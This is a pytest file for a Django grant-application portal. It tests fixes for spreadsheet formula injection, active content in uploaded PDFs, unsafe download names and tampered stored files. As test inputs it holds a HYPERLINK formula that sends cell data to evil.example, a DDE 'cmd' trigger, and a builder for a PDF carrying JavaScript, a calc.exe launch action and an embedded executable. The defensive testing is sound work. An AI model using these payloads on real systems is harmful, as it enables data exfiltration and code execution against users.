"""The flaws an assessor verified (issue 13), each shown fixed: formula injection in exported
spreadsheets, active content carried from uploaded PDFs into the 申报材料汇编, downloads keeping the
uploader's extension, the expert's plan opened by a GET, and stored files served without checking the
SHA-256 recorded at upload."""

import csv
import io
import zipfile
from io import BytesIO
from urllib.parse import quote

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from accounts.enums import Role
from accounts.models import Organisation
from applications.demo import demo_pdf, demo_png
from applications.enums import EvidenceKind
from applications.tasks import verify_stored_files
from applications.uploads import store_evidence
from audit.models import AuditRecord
from audit.services import record
from documents import services as documents
from documents.active_content import strip_active_content
from documents.enums import DocumentKind, DocumentStatus
from review.enums import AssignmentStatus
from review.experts import services as experts
from review.transitions import perform
from spreadsheets import csv_writer, neutralise, xlsx_cells
from tests.experts_support import expert_review_application, make_panel
from tests.factories import complete_application

PAYLOAD = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看详情")'
PANEL = [("110000", "北京大学"), ("310000", "复旦大学")]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


# --- formula injection ----------------------------------------------------------------------------


@pytest.mark.django_db
def test_an_experts_formula_is_exported_as_text_not_as_a_live_formula(client, django_user_model, national,
                                                                    make_expert):
    application = expert_review_application(django_user_model, national, "320000")
    panel = make_panel(make_expert, application.call, PANEL)
    criteria = experts.ensure_rubric(application.call)
    assignment = experts.assign(application, panel[0], by=national)
    experts.open_plan(assignment, panel[0])
    experts.save_score(assignment, panel[0], {c.pk: 20 for c in criteria}, "approve", PAYLOAD, final=True)
    client.force_login(national)
    response = client.get(reverse("experts:summary_xlsx", args=[application.call_id]))
    assert response.status_code == 200
    assert "<f>" not in _sheet_xml(response.content)  # no formula anywhere in the workbook
    book = load_workbook(BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == PAYLOAD]
    assert cells, "the comment is exported exactly as the expert typed it"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    # Numbers stay numbers.
    detail = book.worksheets[1]
    assert detail.cell(row=2, column=5).value == 20 and detail.cell(row=2, column=5).data_type == "n"


@pytest.mark.parametrize("text", [PAYLOAD, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1+1",
                                  "=cmd|' /C calc'!A0"])
def test_every_formula_trigger_is_neutralised_in_csv_and_xlsx(text):
    assert neutralise(text) == "'" + text
    out = io.StringIO()
    csv_writer(out).writerow([text, 3, None, "普通文字"])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == "'" + text
    book = Workbook()
    sheet = book.active
    sheet.append(xlsx_cells(sheet, [text, 3, "a\x07b"]))
    saved = BytesIO()
    book.save(saved)
    assert "<f>" not in _sheet_xml(saved.getvalue())
    row = next(load_workbook(saved).active.iter_rows())
    assert row[0].value == text.replace("\r", "\n")  # XML keeps line breaks as \n
    assert row[0].data_type == "s" and row[1].value == 3
    assert row[2].value == "ab"  # a character XLSX cannot hold is dropped instead of failing the export
    assert neutralise("普通文字") == "普通文字" and neutralise(-2) == -2


@pytest.mark.django_db
def test_the_audit_trail_export_neutralises_recorded_user_text(client, make_user):
    auditor = make_user(Role.AUDIT_ADMIN, Organisation.objects.get(kind="national"))
    record("test.injection", reason=PAYLOAD, details={"note": PAYLOAD})
    client.force_login(auditor)
    body = b"".join(client.get(reverse("audit:export") + "?format=csv").streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    payload_row = next(r for r in rows if r[6] == "test.injection")
    assert payload_row[12] == "'" + PAYLOAD
    response = client.get(reverse("audit:export") + "?format=xlsx")
    assert "<f>" not in _sheet_xml(response.content)


# --- active content in the dossier ------------------------------------------------------------------


def hostile_pdf() -> bytes:
    """A one-page PDF that runs JavaScript on opening and on page events, launches a program, opens an
    external link and carries an embedded file."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(demo_pdf("hostile evidence"))))

    def script(code):
        return writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                                    NameObject("/JS"): TextStringObject(code)}))

    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    names = writer._root_object["/Names"]
    names[NameObject("/JavaScript")] = writer._add_object(DictionaryObject({NameObject("/Names"): ArrayObject(
        [TextStringObject("on-open"), script("app.alert('document level');")])}))
    writer._root_object[NameObject("/OpenAction")] = script("app.launchURL('http://evil.example/open');")
    writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): script("app.alert('close');")})
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script("app.alert('page open');")})
    writer.add_annotation(0, Link(rect=(50, 50, 200, 100), url="http://evil.example/link"))
    rect = ArrayObject([FloatObject(x) for x in (50, 120, 200, 170)])
    launch = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): rect, NameObject("/A"): DictionaryObject({
            NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})})
    attached = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
        NameObject("/Rect"): rect, NameObject("/FS"): DictionaryObject({
            NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("x.exe")}),
        NameObject("/F"): NumberObject(4)})
    widget = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/Rect"): rect, NameObject("/AA"): DictionaryObject({NameObject("/K"): script("1;")})})
    for annotation in (launch, attached, widget):
        page[NameObject("/Annots")].append(writer._add_object(annotation))
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


ACTIVE = {"/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/URI", "/EmbeddedFile", "/EmbeddedFiles",
          "/FileAttachment", "/SubmitForm", "/ImportData", "/RichMedia"}


def active_content(content: bytes) -> set[str]:
    """Every name of active content reachable from the document's trailer (keys, action types, subtypes)."""
    reader = PdfReader(BytesIO(content))
    found, seen, stack = set(), set(), [reader.trailer]
    while stack:
        obj = stack.pop()
        if hasattr(obj, "idnum"):
            if (obj.idnum, obj.generation) in seen:
                continue
            seen.add((obj.idnum, obj.generation))
            obj = obj.get_object()
        if isinstance(obj, dict):
            found |= set(obj.keys()) & ACTIVE
            found |= {str(obj.get(k)) for k in ("/S", "/Subtype", "/Type")} & ACTIVE
            stack.extend(v for k, v in obj.items() if k != "/Parent")
        elif isinstance(obj, list):
            stack.extend(obj)
    return found


def test_stripping_removes_every_kind_of_active_content_and_keeps_the_page():
    hostile = hostile_pdf()
    assert active_content(hostile) >= {"/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/URI",
                                       "/EmbeddedFiles", "/FileAttachment"}
    clean = strip_active_content(hostile)
    assert active_content(clean) == set()
    page = PdfReader(BytesIO(clean)).pages[0]
    assert "/XObject" in page["/Resources"]  # what the reader sees (the scanned page) is still there
    assert [a.get_object()["/Subtype"] for a in page.get("/Annots", [])] == ["/Widget"]


@pytest.mark.django_db
def test_the_dossier_carries_no_active_content_from_an_uploaded_pdf(applicant, django_capture_on_commit_callbacks):
    application = complete_application(applicant)
    store_evidence(application, EvidenceKind.OTHER, SimpleUploadedFile("情况说明.pdf", hostile_pdf()), applicant,
                   "情况说明")
    perform(application, applicant, "submit", expected_state=application.state)
    with django_capture_on_commit_callbacks(execute=True):
        document = documents.request_document(DocumentKind.DOSSIER, application=application, user=applicant)
    document.refresh_from_db()
    assert document.status == DocumentStatus.READY, document.error
    with document.file.open("rb") as fh:
        dossier = fh.read()
    assert active_content(dossier) == set()
    assert len(PdfReader(BytesIO(dossier)).pages) > 5


# --- download names ---------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content", "served_as", "content_type"), [
    ("report.html", demo_pdf("report"), "report.pdf", "application/pdf"),
    ("payload.exe", demo_png("payload"), "payload.png", "image/png"),
    ("扫描件.JPEG", b"\xff\xd8\xff\xe0" + b"\x00" * 64, "扫描件.JPEG", "image/jpeg"),
])
def test_a_download_carries_the_extension_of_its_detected_type(client, applicant, name, content, served_as,
                                                                content_type):
    application = complete_application(applicant)
    client.force_login(applicant)
    response = client.post(reverse("applications:section", args=[application.pk, "evidence"]), {
        "action": "upload", "kind": EvidenceKind.OTHER, "file": SimpleUploadedFile(name, content, "text/html")})
    assert response.status_code == 302
    evidence = application.evidence.get(kind=EvidenceKind.OTHER)
    assert evidence.original_name == name  # the uploader's name is kept as a record ...
    download = client.get(reverse("applications:evidence_download", args=[application.pk, evidence.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == content_type
    disposition = download["Content-Disposition"]
    assert quote(served_as) in disposition or f'filename="{served_as}"' in disposition  # ... the name served is safe
    assert quote(name) not in disposition or name == served_as
    assert b"".join(download.streaming_content) == content


# --- the expert's plan ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_get_of_the_score_page_does_not_block_a_later_conflict_declaration(client, django_user_model, national,
                                                                            make_expert):
    application = expert_review_application(django_user_model, national, "320000")
    panel = make_panel(make_expert, application.call, PANEL)
    assignment = experts.assign(application, panel[0], by=national)
    client.force_login(panel[0])
    client.get(reverse("experts:score", args=[assignment.pk]))
    client.head(reverse("experts:score", args=[assignment.pk]))
    assignment.refresh_from_db()
    assert assignment.opened_at is None
    response = client.post(reverse("experts:assignment", args=[assignment.pk]), {"reason": "曾为该市提供咨询。"})
    assert response.status_code == 302
    assignment.refresh_from_db()
    assert assignment.status == AssignmentStatus.CONFLICT


# --- stored files against their SHA-256 ---------------------------------------------------------------


def _tamper(stored_name, content=b"%PDF-1.4 replaced behind the portal's back"):
    with open(default_storage.path(stored_name), "wb") as fh:
        fh.write(content)


@pytest.mark.django_db
def test_a_stored_file_that_no_longer_matches_its_sha256_is_refused_and_audited(applicant, provincial):
    application = complete_application(applicant)
    evidence = application.evidence.filter(content_type="application/pdf").first()
    url = reverse("applications:evidence_download", args=[application.pk, evidence.pk])
    client = Client(REMOTE_ADDR="198.51.100.4")
    client.force_login(applicant)
    assert client.get(url).status_code == 200
    _tamper(evidence.file.name)
    response = client.get(url)
    assert response.status_code == 409
    assert "校验未通过" in response.content.decode()
    failure = AuditRecord.objects.get(action="file.integrity_failed")
    assert (failure.result, failure.reason, failure.actor_id, failure.client_address) == (
        "refused", "SHA-256 mismatch", applicant.pk, "198.51.100.4")
    assert failure.details["expected_sha256"] == evidence.sha256 != failure.details["actual_sha256"]
    assert (failure.object_type, failure.object_id) == ("applications.evidence", str(evidence.pk))
    # A missing file is a 404 for the user and an integrity failure in the trail.
    default_storage.delete(evidence.file.name)
    assert client.get(url).status_code == 404
    assert AuditRecord.objects.filter(action="file.integrity_failed", reason="missing").count() == 1


@pytest.mark.django_db
def test_a_tampered_policy_document_is_refused_too(client, applicant):
    application = complete_application(applicant)
    policy = application.policies.exclude(document="").first()
    _tamper(policy.document.name)
    client.force_login(applicant)
    response = client.get(reverse("applications:policy_document", args=[application.pk, policy.pk]))
    assert response.status_code == 409
    assert AuditRecord.objects.filter(action="file.integrity_failed", object_id=str(policy.pk)).count() == 1


@pytest.mark.worker
def test_the_periodic_task_finds_every_altered_or_missing_file(celery_worker, applicant, settings):
    assert settings.CELERY_BEAT_SCHEDULE["verify-stored-files"]["task"] == "applications.tasks.verify_stored_files"
    application = complete_application(applicant)
    files = list(application.evidence.all())
    assert verify_stored_files.delay().get(timeout=60)["failed"] == []
    assert not AuditRecord.objects.filter(action="file.integrity_failed").exists()
    _tamper(files[0].file.name)
    default_storage.delete(files[1].file.name)
    result = verify_stored_files.delay().get(timeout=60)
    assert sorted((f["stored_name"], f["reason"]) for f in result["failed"]) == sorted(
        [(files[0].file.name, "SHA-256 mismatch"), (files[1].file.name, "missing")])
    failures = AuditRecord.objects.filter(action="file.integrity_failed", details__check="periodic")
    assert sorted(int(r.object_id) for r in failures) == sorted([files[0].pk, files[1].pk])
    assert all(r.result == "refused" and r.actor_id is None for r in failures)
